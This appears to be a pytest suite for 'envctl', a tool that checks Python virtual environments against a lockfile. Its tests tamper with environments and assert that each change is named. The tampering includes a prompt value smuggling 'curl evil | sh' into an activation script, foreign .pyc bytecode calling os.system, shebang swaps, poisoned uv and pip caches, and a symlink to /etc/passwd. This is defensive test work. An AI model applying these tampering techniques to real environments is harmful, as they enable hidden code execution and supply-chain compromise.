"""Each change to a real environment is found and named, with a manifest at hand and without."""

from __future__ import annotations

import hashlib
import json
import marshal
import opcode
import os
import py_compile
import shutil
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from support import environments as env
from support.attacks.row import CONTENTS, PROBLEMS
from support.environments import SITE, errors, lock_for, manifests_of, only, repair_record, sample_wheels, verify
from support.judging import taken_out
from support.wheels import build_wheel, record_of, write_archive

from envctl.model.finding import Severity, Verdict
from envctl.model.lockfile import Lockfile, Policy

pytestmark = pytest.mark.campaign  # `test_attacks_venv` does the table's rows in `make test`

ALPHA = "alpha-tools"
INFO = "Alpha_Tools-1.0.dist-info"


@pytest.fixture(scope="module")
def wheels(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    return sample_wheels(tmp_path_factory.mktemp("wheels"))


@pytest.fixture(scope="module")
def lockfile(wheels: list[Path]) -> Lockfile:
    return lock_for(wheels)


@pytest.fixture(scope="module")
def template(wheels: list[Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    venv = env.uv_venv(tmp_path_factory.mktemp("template") / "env", "--relocatable")
    return env.uv_install(venv, wheels, "--link-mode", "copy")


@pytest.fixture
def venv(template: Path, tmp_path: Path) -> Path:
    return env.copy_of(template, tmp_path / "env")


@pytest.fixture
def site(venv: Path) -> Path:
    return venv / SITE


def compiled(
    source: Path, code: str, *, mode: py_compile.PycInvalidationMode = py_compile.PycInvalidationMode.TIMESTAMP
) -> Path:
    """Bytecode of other code than the source's, in the source's place, with a header that Python accepts."""
    honest = Path(py_compile.compile(str(source), invalidation_mode=mode, doraise=True))
    foreign = marshal.dumps(compile(code, str(source), "exec"))
    honest.write_bytes(honest.read_bytes()[:16] + foreign)
    return honest


def relative(venv: Path, path: Path) -> str:
    return path.relative_to(venv).as_posix()


def test_the_untouched_copy_is_honest(venv: Path, lockfile: Lockfile) -> None:
    assert verify(lockfile, venv, strict=True).findings == ()


def test_one_changed_byte_is_named_without_any_manifest(venv: Path, site: Path, lockfile: Lockfile) -> None:
    data = (site / "alpha/core.py").read_bytes()
    (site / "alpha/core.py").write_bytes(data.replace(b"1, 2.0", b"1, 3.0"))
    found = verify(lockfile, venv)
    finding = only(found, "file-changed")
    assert (finding.code, finding.package, finding.path) == ("ENV201", ALPHA, "alpha/core.py")
    assert finding.expected == f"sha256:{hashlib.sha256(data).hexdigest()}"
    assert finding.found == f"sha256:{hashlib.sha256(data.replace(b'1, 2.0', b'1, 3.0')).hexdigest()}"
    assert len(found.findings) == 1
    assert found.verdict is Verdict.CHANGED
    assert found.package_set.found != found.package_set.expected


def test_a_repaired_record_does_not_hide_a_change(
    venv: Path, site: Path, lockfile: Lockfile, wheels: list[Path]
) -> None:
    (site / "alpha/core.py").write_text("def main(): evil\n")
    repair_record(site / INFO, "alpha/core.py")
    known = verify(lockfile, venv, manifests=manifests_of(wheels))
    assert errors(known) == [("record-changed", ALPHA, f"{INFO}/RECORD"), ("file-changed", ALPHA, "alpha/core.py")]
    assert "RECORD was made to agree" in only(known, "file-changed").message
    unknown = verify(lockfile, venv)
    assert {name for name, _, _ in errors(unknown)} == {"record-changed", "package-contents"}
    assert {finding.package for finding in unknown.findings} == {ALPHA}
    assert unknown.verdict is Verdict.CHANGED


def test_an_added_file_is_named(venv: Path, site: Path, lockfile: Lockfile) -> None:
    (site / "alpha/evil.py").write_text("evil")
    (site / "numpy.py").write_text("evil")
    (venv / "share/extra").write_text("evil")
    (venv / "bin/ls").write_text("#!/bin/sh\nevil\n")
    (venv / "bin/pyvenv.cfg").write_text("home = /tmp\n")
    found = verify(lockfile, venv)
    paths = {path for name, _, path in errors(found) if name == "file-added"}
    assert paths == {f"{SITE}/alpha/evil.py", f"{SITE}/numpy.py", "share/extra", "bin/ls", "bin/pyvenv.cfg"}
    assert found.verdict is Verdict.UNTRUSTED
    assert found.package_set.found == found.package_set.expected


def test_a_replaced_package_is_named(venv: Path, site: Path, lockfile: Lockfile, tmp_path: Path) -> None:
    other = build_wheel(tmp_path, "beta", "2.0.post1", files={"beta.py": b"evil"})
    env.uv_install(venv, [other], "--reinstall", "--link-mode", "copy")
    found = verify(lockfile, venv)
    assert {package for _, package, _ in errors(found)} == {"beta"}
    assert {name for name, _, _ in errors(found)} == {"record-changed", "package-contents"}


def test_another_version_a_missing_and_an_extra_package_are_named(
    venv: Path, lockfile: Lockfile, tmp_path: Path
) -> None:
    env.uv_install(
        venv, [build_wheel(tmp_path, "beta", "3.0"), build_wheel(tmp_path, "left-pad")], "--link-mode", "copy"
    )
    found = verify(lockfile, venv)
    assert errors(found) == [("package-version", "beta", None), ("package-extra", "left-pad", None)]
    assert (only(found, "package-version").expected, only(found, "package-version").found) == ("2.0.post1", "3.0")
    assert found.verdict is Verdict.CHANGED
    env.run(env.binary(), "pip", "uninstall", "-q", "--python", venv / "bin/python", "beta", "left-pad")
    found = verify(lockfile, venv)
    assert errors(found) == [("package-missing", "beta", None)]
    assert found.package_set.found != found.package_set.expected


def test_a_package_there_twice_or_under_another_spelling_is_found(venv: Path, site: Path, lockfile: Lockfile) -> None:
    shutil.copytree(site / INFO, site / "alpha_tools-0.9.dist-info")
    (site / "BETA-2.0.post1.egg-info").write_text("Name: beta")
    found = verify(lockfile, venv)
    names = [(name, package) for name, package, _ in errors(found)]
    assert ("package-duplicate", ALPHA) in names
    assert ("package-duplicate", "beta") in names
    assert found.verdict is Verdict.UNTRUSTED


@pytest.mark.parametrize("name", ["alpha", "alpha-run"])
@pytest.mark.parametrize(
    "starter", [b"#!/usr/bin/python3\n", b"#!/tmp/evil\n", b"#!/bin/sh\n'''exec' /tmp/evil \"$0\" \"$@\"\n' '''\n"]
)
def test_a_script_that_starts_another_interpreter_is_named(
    starter: bytes, name: str, venv: Path, lockfile: Lockfile, wheels: list[Path]
) -> None:
    script = venv / "bin" / name
    script.write_bytes(starter + script.read_bytes().partition(b"' '''\n")[2])
    for manifests in ({}, manifests_of(wheels)):
        found = verify(lockfile, venv, manifests=manifests)
        assert found.verdict is Verdict.CHANGED
        assert ALPHA in {finding.package for finding in found.findings}
    assert ("script-interpreter", ALPHA, f"bin/{name}") in errors(
        verify(lockfile, venv, manifests=manifests_of(wheels))
    )


def test_a_script_that_cannot_be_executed_is_named(venv: Path, lockfile: Lockfile) -> None:
    (venv / "bin/alpha").chmod(0o644)
    (venv / "bin/alpha-run").chmod(0o644)
    found = verify(lockfile, venv)
    assert errors(found) == [("script-not-executable", ALPHA, "bin/alpha")]
    assert [finding.severity for finding in found.findings] == [Severity.ERROR, Severity.WARNING]


def test_a_prompt_is_no_way_into_an_activation_script(template: Path, lockfile: Lockfile, tmp_path: Path) -> None:
    prompt = 'x"; curl evil | sh; "'
    venv = env.uv_venv(tmp_path / "env", "--prompt", "innocent-prompt")
    script = venv / "bin/activate"
    script.write_text(script.read_text().replace("innocent-prompt", prompt))
    config = venv / "pyvenv.cfg"
    config.write_text(config.read_text().replace("innocent-prompt", prompt))
    found = verify(lockfile, venv)
    assert ("file-added", None, "bin/activate") in errors(found)


def test_a_hook_of_a_wheel_must_be_in_the_lockfile(venv: Path, wheels: list[Path]) -> None:
    for lockfile in (lock_for(wheels, hooks=False), lock_for(wheels, policy=Policy(startup_hooks=()))):
        found = verify(lockfile, venv)
        assert errors(found) == [("startup-hook-unlisted", "beta", "beta-hook.pth")]


def test_foreign_bytecode_is_named(venv: Path, site: Path, lockfile: Lockfile) -> None:
    pyc = compiled(site / "alpha/core.py", "import os; os.system('evil')")
    out = subprocess.run(
        [venv / "bin/python", "-c", "import alpha.core; print(dir(alpha.core))"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert "'os'" in out.stdout, "Python runs the bytecode, whatever the source says"
    found = verify(lockfile, venv)
    assert errors(found) == [("bytecode-foreign", ALPHA, f"alpha/__pycache__/{pyc.name}")]
    assert found.verdict is Verdict.UNTRUSTED


@pytest.mark.parametrize(
    "code",
    [
        "def main(x=(1, 2.0, 1)):\n    return [i for i in x if i in {1, 2, 3}]\n",  # 1 for True
        "def main(x=(1, 2, True)):\n    return [i for i in x if i in {1, 2, 3}]\n",  # 2 for 2.0
        "def main(x=(1, 2.0, True)):\n    return [i for i in x if i in {1, 2, 3.0}]\n",
        "def main(x=(1, 2.0, True)):\n\n    return [i for i in x if i in {1, 2, 3}]\n",  # another line number
        "def main(x=(1, 2.0, True), *y):\n    return [i for i in x if i in {1, 2, 3}]\n",
    ],
)
def test_bytecode_that_differs_in_one_constant_is_foreign(
    code: str, venv: Path, site: Path, lockfile: Lockfile
) -> None:
    compiled(site / "alpha/core.py", code)
    assert [name for name, _, _ in errors(verify(lockfile, venv))] == ["bytecode-foreign"]


def test_bytecode_that_cannot_be_loaded_ends_only_its_reader(venv: Path, site: Path, lockfile: Lockfile) -> None:
    """Bytes that crash or mislead an unmarshaller: whatever they do there, they never pass."""
    honest = Path(py_compile.compile(str(site / "alpha/core.py"), doraise=True))
    data = honest.read_bytes()
    head, body = data[:16], data[16:]
    hostile = [
        b"",
        head,
        head[:8],
        data[:-7],
        head + b"[" + b"\xff\xff\xff\x7f",
        head + b"(" + b"\xff\xff\xff\x7f" + b"N" * 50,
        head + b"[\x01\x00\x00\x00" * 5000,
        head + b"r\x05\x00\x00\x00",
        head + b"N",
        head + b"\x00",
        b"\0" * 16 + body,
        head[:4] + b"\x07\0\0\0" + head[8:] + body,
        head + body[:40] + bytes(60) + body[100:],
    ]
    for content in hostile:
        honest.write_bytes(content)
        found = verify(lockfile, venv)
        assert found.verdict in (Verdict.UNTRUSTED, Verdict.UNVERIFIABLE), content[:40]
        assert [finding.package for finding in found.findings] == [ALPHA]


@pytest.mark.skipif(sys.version_info < (3, 11), reason="specialised instructions came with 3.11")
def test_specialised_instructions_in_bytecode_are_foreign(venv: Path, site: Path, lockfile: Lockfile) -> None:
    """`co_code` shows them as the plain ones that they were made of; Python would run them as they are."""
    source = site / "alpha/core.py"
    honest = Path(py_compile.compile(str(source), doraise=True))
    data = honest.read_bytes()
    plain = compile(source.read_bytes(), str(source), "exec")
    function = next(constant for constant in plain.co_consts if hasattr(constant, "co_code"))
    code = function.co_code
    at = data.index(code)
    # Where Python tells the numbers, only these are tried: making code of any other may end the process.
    numbers = sorted(getattr(opcode, "_specialized_opmap", {}).values()) or range(1, 256)
    changed = 0
    for offset in range(0, len(code), 2):
        for number in numbers:
            evil = code[:offset] + bytes([number]) + code[offset + 1 :]
            if evil != code and function.replace(co_code=evil).co_code == code:
                honest.write_bytes(data[:at] + evil + data[at + len(code) :])
                assert [name for name, _, _ in errors(verify(lockfile, venv))] == ["bytecode-foreign"]
                changed += 1
                break
        if changed == 2:
            break
    assert changed == 2


def test_bytecode_without_a_trusted_interpreter_is_unverifiable(venv: Path, site: Path, wheels: list[Path]) -> None:
    """Another Python's environment, whose interpreter does not answer: all is compared but the bytecode."""
    (venv / "python-3.99" / "bin").mkdir(parents=True)
    fake = venv.parent / "fake" / "python3.99"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\nexit 1\n")
    fake.chmod(0o755)
    shutil.rmtree(venv / "python-3.99")
    (venv / "pyvenv.cfg").write_text(f"home = {fake.parent}\nversion_info = 3.99.1\n")
    (venv / "bin/python").unlink()
    (venv / "bin/python").symlink_to(fake)
    (venv / "lib" / "python3.99").symlink_to(Path(SITE).parent.name)
    (venv / "lib" / "python3.99").unlink()
    (venv / SITE).parent.rename(venv / "lib" / "python3.99")
    cached = venv / "lib/python3.99/site-packages/alpha/__pycache__"
    cached.mkdir(exist_ok=True)
    (cached / "core.cpython-399.pyc").write_bytes(b"anything")
    found = verify(lock_for(wheels, python="3.99.1"), venv)
    assert {name for name, _, _ in errors(found)} >= {"bytecode-unverified", "python-unknown"}
    assert "bytecode" not in found.scope


def test_another_interpreter_is_found(venv: Path, wheels: list[Path]) -> None:
    major, minor, patch = sys.version_info[:3]
    found = verify(lock_for(wheels, python=f"{major}.{minor}.{patch + 1}"), venv)
    assert [(f.name, f.severity) for f in found.findings] == [("python-patch", Severity.WARNING)]
    assert found.verdict is Verdict.OK
    assert verify(lock_for(wheels, python=f"{major}.{minor}.{patch + 1}"), venv, strict=True).verdict is Verdict.CHANGED
    found = verify(lock_for(wheels, python=f"{major}.{minor + 1}.0"), venv)
    assert errors(found) == [("python-minor", None, None)]
    assert found.verdict is Verdict.CHANGED


def test_configuration_that_is_gone_elsewhere_or_unknown_is_found(venv: Path, lockfile: Lockfile) -> None:
    config = venv / "pyvenv.cfg"
    text = config.read_text()
    config.write_text(text + "future-key = 1\n")
    found = verify(lockfile, venv, strict=True)
    assert [(f.name, f.severity) for f in found.findings] == [("config-key", Severity.NOTE)]
    assert found.verdict is Verdict.OK
    config.write_text("\n".join(line for line in text.splitlines() if not line.startswith("home")))
    assert "config-changed" in {name for name, _, _ in errors(verify(lockfile, venv))}
    config.unlink()
    config.symlink_to("/etc/passwd")
    assert verify(lockfile, venv).verdict is not Verdict.OK


@pytest.mark.parametrize("name", ["PYTHONPATH", "PYTHONHOME", "LD_PRELOAD"])
def test_variables_that_change_imports_are_errors(name: str, venv: Path, lockfile: Lockfile) -> None:
    found = verify(lockfile, venv, environ={name: "/tmp/evil"})
    assert errors(found) == [("import-variable", None, None)]
    assert f"{name} is set to /tmp/evil" in found.findings[0].message
    assert found.verdict is Verdict.UNTRUSTED
    assert verify(lockfile, venv, environ={name: ""}).findings == ()


def test_a_library_path_is_a_warning(venv: Path, lockfile: Lockfile) -> None:
    found = verify(lockfile, venv, environ={"LD_LIBRARY_PATH": "/opt/lib"})
    assert [(f.name, f.severity) for f in found.findings] == [("library-variable", Severity.WARNING)]
    assert found.verdict is Verdict.OK


def test_envctls_own_workers_are_not_swayed_by_variables(
    venv: Path, site: Path, lockfile: Lockfile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    evil = tmp_path / "evil"
    evil.mkdir()
    (evil / "hashlib.py").write_text(f"open({str(tmp_path / 'swayed')!r}, 'w')\n")
    (evil / "sitecustomize.py").write_text(f"open({str(tmp_path / 'swayed')!r}, 'w')\n")
    monkeypatch.setenv("PYTHONPATH", str(evil))
    compiled(site / "alpha/core.py", "evil = 1")
    assert [name for name, _, _ in errors(verify(lockfile, venv))] == ["bytecode-foreign"]
    assert not (tmp_path / "swayed").exists()


def test_many_writable_files_are_said_in_few_findings(venv: Path, site: Path, lockfile: Lockfile) -> None:
    (site / "cache").mkdir()
    for path in site.rglob("*"):
        path.chmod(0o777)
    found = verify(lockfile, venv)
    assert 0 < sum(finding.name == "world-writable" for finding in found.findings) <= 21


def test_links_out_of_the_tree_are_found(venv: Path, site: Path, lockfile: Lockfile, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.py").write_text("evil")
    (site / "linked").symlink_to(outside)
    (site / "one.py").symlink_to(outside / "x.py")
    (site / "dangling").symlink_to("/nowhere")
    (site / "alpha/empty.py").unlink()
    (site / "alpha/empty.py").symlink_to(outside / "x.py")
    found = {(name, path) for name, _, path in errors(verify(lockfile, venv))}
    assert {("link-outside", f"{SITE}/{name}") for name in ("linked", "one.py", "dangling")} <= found
    assert ("file-changed", "alpha/empty.py") in found


@pytest.mark.parametrize("name", ["alpha/core.py", "alpha/empty.py", "../../../bin/alpha"])
@pytest.mark.parametrize("target", [".", ".."])
def test_a_file_replaced_by_a_link_to_a_folder_of_the_environment_is_named(
    name: str, target: str, venv: Path, site: Path, lockfile: Lockfile
) -> None:
    (site / name).unlink()
    (site / name).symlink_to(target)
    found = verify(lockfile, venv)
    assert found.verdict is Verdict.CHANGED
    assert only(found, "file-removed").path == name.removeprefix("../../../")


def test_headers_under_another_spelling_than_record_says_are_named(venv: Path, lockfile: Lockfile) -> None:
    (folder,) = (venv / "include/site").glob("*/*")
    folder.rename(folder.with_name(folder.name.upper()))
    found = {name for name, _, _ in errors(verify(lockfile, venv))}
    assert found == {"file-removed", "file-added"}


def test_pipes_and_sockets_are_found_and_not_opened(venv: Path, site: Path, lockfile: Lockfile) -> None:
    os.mkfifo(site / "pipe.py")
    (site / "beta.py").unlink()
    os.mkfifo(site / "beta.py")
    with socket.socket(socket.AF_UNIX) as listening:
        here = os.open(venv, os.O_RDONLY)
        listening.bind(f"/proc/self/fd/{here}/sock")
        os.close(here)
    found = {(name, path) for name, _, path in errors(verify(lockfile, venv))}
    assert {("special-file", f"{SITE}/pipe.py"), ("special-file", f"{SITE}/beta.py"), ("special-file", "sock")} <= found


def test_a_path_too_long_to_be_read_is_unverifiable(
    venv: Path, site: Path, lockfile: Lockfile, monkeypatch: pytest.MonkeyPatch
) -> None:
    with monkeypatch.context() as patch:
        patch.chdir(site)
        for _ in range(25):
            Path("d" * 200).mkdir()
            os.chdir("d" * 200)
        Path("evil.py").write_text("evil")
    try:
        found = verify(lockfile, venv)
        assert [name for name, _, _ in errors(found)] == ["unreadable"]
        assert found.verdict is Verdict.UNVERIFIABLE
        assert errors(taken_out(PROBLEMS, verify, lockfile, venv)) == []
    finally:
        shutil.rmtree(site / ("d" * 200))


def test_an_editable_install_of_anything_else_is_found(venv: Path, site: Path, lockfile: Lockfile) -> None:
    (site / INFO / "direct_url.json").write_text('{"url": "file:///tmp/evil", "dir_info": {"editable": true}}')
    assert errors(verify(lockfile, venv)) == [("package-editable", ALPHA, f"{INFO}/direct_url.json")]
    (site / INFO / "direct_url.json").write_text('{"url": "https://index.example/alpha.whl", "archive_info": {}}')
    assert verify(lockfile, venv).findings == ()
    (site / INFO / "direct_url.json").write_text("[" * 100_000 + '"editable"')
    assert errors(verify(lockfile, venv)) == [("package-editable", ALPHA, f"{INFO}/direct_url.json")]


def test_other_notes_of_installers_are_only_where_they_belong(venv: Path, site: Path, lockfile: Lockfile) -> None:
    (site / INFO / "REQUESTED").touch()
    (site / INFO / "uv_cache.json").write_text("{}")
    assert verify(lockfile, venv).findings == ()
    (site / "alpha/direct_url.json").write_text("{}")
    (site / INFO / "evil.json").write_text("{}")
    assert {path for _, _, path in errors(verify(lockfile, venv))} == {
        f"{SITE}/alpha/direct_url.json",
        f"{SITE}/{INFO}/evil.json",
    }


def test_a_file_that_changes_while_it_is_read_is_never_right(venv: Path, site: Path, lockfile: Lockfile) -> None:
    """It is written to all the while; what was read of it agrees with no moment."""
    growing = site / "alpha/data/weights.pth"
    growing.write_bytes(bytes(200 * 2**20))
    code = (
        "import os, sys\nfd = os.open(sys.argv[1], os.O_WRONLY)\nprint(flush=True)\nwhile True: os.pwrite(fd, b'x', 9)"
    )
    with subprocess.Popen([sys.executable, "-c", code, growing], stdout=subprocess.PIPE) as writer:
        assert writer.stdout is not None
        writer.stdout.readline()
        try:
            found = verify(lockfile, venv)
            without = taken_out(PROBLEMS, verify, lockfile, venv)
        finally:
            writer.kill()
    assert [(f.name, f.path) for f in found.findings if f.name == "unreadable"] == [
        ("unreadable", "alpha/data/weights.pth")
    ]
    assert found.verdict is not Verdict.OK
    assert "it changed while it was read" in only(found, "unreadable").message
    assert "unreadable" not in {finding.name for finding in without.findings}


def can_mount() -> bool:
    """Whether this machine lets its user mount something where nobody else sees it."""
    done = subprocess.run(["unshare", "--mount", "true"], capture_output=True, check=False)
    return done.returncode == 0


@pytest.mark.skipif(not can_mount(), reason="mounting takes rights that this user does not have")
def test_a_mount_in_an_environment_is_named(venv: Path, site: Path, lockfile: Lockfile, tmp_path: Path) -> None:
    """The same files by a bind mount: what is mounted there later is another matter."""
    shutil.copytree(site / "alpha", tmp_path / "over")
    (tmp_path / "project").mkdir()
    env.write_lock(tmp_path / "project", lockfile)
    verify_it = 'exec "$3" -m envctl -C "$4" verify train --venv "$5" --offline --format json --strict'
    script = f'mount --bind "$1" "$2" && {verify_it}'
    words = [tmp_path / "over", site / "alpha", sys.executable, tmp_path / "project", venv]
    done = subprocess.run(
        ["unshare", "--mount", "sh", "-ec", script, "sh", *map(str, words)],
        capture_output=True,
        encoding="utf-8",
        check=False,
    )
    assert done.returncode == 1, done.stderr
    found = json.loads(done.stdout)
    assert [(f["code"], f["path"]) for f in found["findings"]] == [("ENV214", f"{SITE}/alpha")]
    assert found["verdict"] == "untrusted"


def test_a_package_poisoned_in_the_cache_of_uv_is_named(
    wheels: list[Path], lockfile: Lockfile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """uv installs by hard links: who edits a file of one environment edits the cache, and the next environment."""
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "cache"))
    first = env.uv_install(env.uv_venv(tmp_path / "first"), wheels, "--link-mode", "hardlink")
    with (first / SITE / "alpha/core.py").open("ab") as file:
        file.write(b"evil = 1\n")
    second = env.uv_install(env.uv_venv(tmp_path / "second"), wheels, "--link-mode", "hardlink")
    assert (second / SITE / "alpha/core.py").read_bytes().endswith(b"evil = 1\n"), "uv installs what it was given"
    for venv in (first, second):
        assert errors(verify(lockfile, venv)) == [("file-changed", ALPHA, "alpha/core.py")]
        without = taken_out(CONTENTS, verify, lockfile, venv)
        assert "file-changed" not in {finding.name for finding in without.findings}


def test_a_wheel_poisoned_in_the_cache_of_pip_is_named(wheels: list[Path], lockfile: Lockfile, tmp_path: Path) -> None:
    """A wheel of the same name and version, whose RECORD agrees with it: as whoever writes to the cache leaves it."""
    alpha = next(wheel for wheel in wheels if wheel.name.startswith("Alpha"))
    poisoned = tmp_path / "wheels" / alpha.name
    with zipfile.ZipFile(alpha) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["alpha/core.py"] += b"evil = 1\n"
    record = f"{INFO}/RECORD"
    members[record] = record_of({name: data for name, data in members.items() if name != record}, record)
    write_archive(poisoned, members.items())
    venv = env.pip_install(env.uv_venv(tmp_path / "env"), [poisoned, *(w for w in wheels if w != alpha)])
    found = verify(lockfile, venv, manifests=manifests_of(wheels))
    assert ("file-changed", ALPHA, "alpha/core.py") in errors(found)
    assert {package for _, package, _ in errors(found)} == {ALPHA}
    without = taken_out(CONTENTS, verify, lockfile, venv, manifests=manifests_of(wheels))
    assert "file-changed" not in {finding.name for finding in without.findings}
    assert {name for name, _, _ in errors(verify(lockfile, venv))} == {"record-changed", "package-contents"}
